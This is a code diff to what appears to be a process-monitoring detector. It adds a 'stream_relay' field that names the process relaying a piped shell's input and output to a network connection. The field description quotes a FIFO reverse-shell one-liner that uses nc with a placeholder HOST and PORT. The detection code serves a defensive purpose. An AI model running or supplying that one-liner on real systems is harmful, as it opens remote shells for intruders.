@@ -111,6 +111,13 @@ FIELDS: dict[str, Field] = {
               "inet sockets the process holds on its standard streams (stdin, stdout, stderr): "
               "a shell whose input and output are a network connection",
               lambda p: sum(1 for s in p.sockets if s.stream)),
+        Field("stream_relay", "text",
+              "for a shell whose stdin and stdout (or stderr) are pipes or FIFOs: the name of a "
+              "process holding a connection that its output reaches and that feeds its input "
+              "back, through pipes and FIFOs of at most four processes of its kernel's tree "
+              "(`cat f | sh -i 2>&1 | nc HOST PORT > f`: nc); neither the kernel nor the "
+              "shell's ancestors (a program driving a shell it started) count; '' if none",
+              lambda p: p.stream_relay),
         Field("peers", "number", "distinct remote endpoints (address and port)",
               lambda p: len(_remote_endpoints(p))),
         Field("peer_hosts", "number", "distinct remote addresses", lambda p: len({ip for ip, _ in _remote_endpoints(p)})),
